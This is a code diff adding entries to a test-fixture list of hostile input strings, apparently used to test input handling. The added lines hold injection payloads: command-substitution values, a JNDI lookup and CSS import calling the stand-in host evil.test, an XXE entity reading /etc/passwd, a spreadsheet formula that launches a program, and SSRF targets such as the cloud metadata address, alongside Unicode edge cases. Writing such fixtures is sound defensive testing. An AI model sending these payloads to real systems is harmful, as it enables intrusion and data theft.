@@ -12,6 +12,11 @@ export const hostileTexts: readonly string[] = [
   '") or pg_sleep(10) --', '\\', '\\\\u0000', '$1', '$$', '::uuid', 'null', 'undefined', 'NaN', 'true', '0', '-1', '1e309', '0x10', '１２３', '٣٤', '../../../etc/passwd', 'C:\\con', '/dev/zero', 'file:///etc/passwd',
   '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'a@b', 'a@example.test\u0000', `${'a'.repeat(250)}@example.test`, '00000000-0000-0000-0000-000000000000', 'FFFFFFFF-FFFF-4FFF-8FFF-FFFFFFFFFFFF',
   'x'.repeat(300), 'x'.repeat(10_000), '\ud83d'.repeat(2000), 'ä'.repeat(70_000), '[[[[[[[[[[', '*:*', '&|!()<->:*', '\\x00', '2026-02-30', '99999999999999999999', '1:1', 'DE-', 'ZZ-ZZZZZZZZ', '9'.repeat(15), 'eyJhIjoxfQ',
+  // A way in for each interpreter that a text may come upon.
+  '<!--#exec cmd="ls"-->', '*)(uid=*))(|(uid=*', '{"$gt":""}', '\'||\'1\'==\'1', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>', '<![CDATA[<', '${jndi:ldap://evil.test/x}', '$(sleep 9)', '`sleep 9`', '| sleep 9', '=cmd|\' /c calc\'!A1', '@import url(//evil.test)', '<svg/onload=x>',
+  'data:text/html;base64,PHNjcmlwdD4=', '//evil.test', '/\\evil.test', 'http://127.0.0.1:5432/', 'http://[::ffff:127.0.0.1]/', 'http://2130706433/', 'http://169.254.169.254/', '%0d%0aSet-Cookie:%20x=1', '%c0%af', '%u003c', '&lt', '&#60;', '\\u003c', '..%c1%9c', '....//', 'nul.txt', 'a%00.png', 'a'.repeat(255), '"very odd"@example.test', 'a@[127.0.0.1]', 'a@xn--.test',
+  // One sign or several, composed or not: lengths and equality are no matter of course.
+  'e\u0301', '\u00e9', '\u212b', '\u0041\u030a', '\u1e9b\u0323', '\ufb01', '\u01c4', '\u1100\u1161\u11a8', '\uac01', '\u0f71\u0f72\u0f74', '\u0915\u094d\u0937', '\u0301', '\u{1d160}', '\u{1f1e6}\u{1f1e7}\u{1f1e8}', '\u{1f469}\u200d', '\u200d\u{1f469}', '\ufe0f', '\u{1f3fb}', '\u{e0067}\u{e007f}', `a${'\u0315\u0300\u05ae'.repeat(200)}b`, '\u2028\u2029\u0085', '\u{10ffff}',
   Buffer.from('["popular",1e400,1]').toString('base64url'), Buffer.from('{"value":"x","id":-1}').toString('base64url'),
 ]
 
